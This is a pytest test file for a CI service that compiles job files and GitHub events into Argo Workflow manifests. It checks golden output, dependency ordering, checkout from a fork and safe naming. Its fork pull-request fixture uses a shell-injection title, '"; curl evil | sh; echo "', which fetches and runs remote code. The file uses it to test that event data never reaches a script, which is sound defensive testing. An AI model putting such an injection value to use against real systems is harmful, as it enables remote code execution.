"""Golden tests: job files + events → the exact Workflow manifests, all valid.

Regenerate after an intended change with ``FORGEFLOW_UPDATE_GOLDEN=1 make unit`` and review the diff.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest
import yaml

from service.argo.validation import validate_manifest
from service.compiler import DRIVER, compile_workflow
from service.events import Event, EventKind, PullRequest, Repository
from service.jobs.loader import load_job_file
from service.jobs.matcher import match_jobs
from service.jobs.plan import PlanOptions, label_value, plan_workflow, task_name

GOLDEN = Path(__file__).with_name("golden")
REPO = Repository(
    "octo", "hello", "https://github.com/octo/hello.git", "https://github.com/octo/hello", "main"
)
FORK = Repository("mallory", "hello", "https://github.com/mallory/hello.git")
SHA = "0123456789abcdef0123456789abcdef01234567"
OPTIONS = PlanOptions(
    namespace="ci",
    service_account="forgeflow-workflow",
    default_image="registry.fedoraproject.org/fedora:41",
    default_timeout_seconds=1800,
    ttl_seconds=86400,
    run_url="https://forgeflow.example/runs/42",
)

EVENTS = {
    "push": Event("github", EventKind.PUSH, REPO, SHA, ref="refs/heads/main", branch="main", sender="alice"),
    "fork-pr": Event(
        "github",
        EventKind.PULL_REQUEST,
        REPO,
        SHA,
        action="opened",
        ref="refs/pull/7/head",
        branch="feature",
        sender="mallory",
        pull_request=PullRequest(
            7,
            title='"; curl evil | sh; echo "',
            author="mallory",
            source_branch="feature",
            target_branch="main",
            source_repo=FORK,
            fork=True,
        ),
    ),
}

CASES = {
    "v1-basic": (
        "push",
        """\
version: 1
defaults: {image: "quay.io/example/builder:1", timeout: 20m, env: {LANG: C.UTF-8}}
jobs:
  lint:
    steps: [{name: lint, run: make lint}]
  unit_tests:
    needs: [lint]
    timeout: 45m
    env: {PYTEST_ADDOPTS: "-q"}
    steps: ["pip install -e .", {name: test, run: pytest}]
  pr-only:
    on: [pull_request]
    steps: ["true"]
""",
    ),
    "v1-fork-pr": (
        "fork-pr",
        """\
version: 1
jobs:
  build:
    on: [pull_request]
    steps: [make]
""",
    ),
}


def compiled(case: str) -> dict:
    event_name, text = CASES[case]
    event = EVENTS[event_name]
    job_file = load_job_file(text)
    plan = plan_workflow(42, event, job_file, match_jobs(event, job_file), OPTIONS)
    return compile_workflow(plan)


@pytest.mark.parametrize("case", sorted(CASES))
def test_golden_manifest(case: str):
    manifest = compiled(case)
    validate_manifest(manifest)
    path = GOLDEN / f"{case}.yaml"
    text = yaml.safe_dump(manifest, sort_keys=False, width=1000)
    if os.environ.get("FORGEFLOW_UPDATE_GOLDEN") == "1":
        path.write_text(text, encoding="utf-8")
    assert path.exists(), f"{path} is missing: run with FORGEFLOW_UPDATE_GOLDEN=1 once and review it"
    assert yaml.safe_load(path.read_text(encoding="utf-8")) == manifest


def test_event_data_never_reaches_a_script():
    manifest = compiled("v1-fork-pr")
    template = manifest["spec"]["templates"][1]
    title = EVENTS["fork-pr"].pull_request.title  # type: ignore[union-attr]
    assert all(title not in arg for arg in template["container"]["args"])
    assert {"name": "FORGEFLOW_PR_TITLE", "value": title} in template["container"]["env"]
    assert template["container"]["args"][0] == DRIVER


def test_fork_source_is_the_fork_at_the_exact_commit():
    manifest = compiled("v1-fork-pr")
    git = manifest["spec"]["templates"][1]["inputs"]["artifacts"][0]["git"]
    assert git == {"repo": FORK.clone_url, "revision": SHA}


def test_needs_become_dependencies_and_names_are_deterministic():
    first, second = compiled("v1-basic"), compiled("v1-basic")
    assert first == second
    assert first["metadata"]["name"] == "forgeflow-42-0123456"
    tasks = {t["name"]: t for t in first["spec"]["templates"][0]["dag"]["tasks"]}
    assert set(tasks) == {"lint", "unit-tests"}
    assert tasks["unit-tests"]["dependencies"] == ["lint"]
    # the deadline covers the longest chain (20m + 45m) plus slack
    assert first["spec"]["activeDeadlineSeconds"] == 20 * 60 + 45 * 60 + 600


def test_names_and_labels_are_kubernetes_safe():
    taken: set[str] = set()
    assert task_name("Unit Tests!", taken) == "unit-tests"
    assert task_name("unit_tests", taken) == "unit-tests-2"
    value = label_value("a-very-long-group/with-subgroups/and-a-rather-long-project-name-too")
    assert len(value) <= 63 and value[0].isalnum() and value[-1].isalnum()
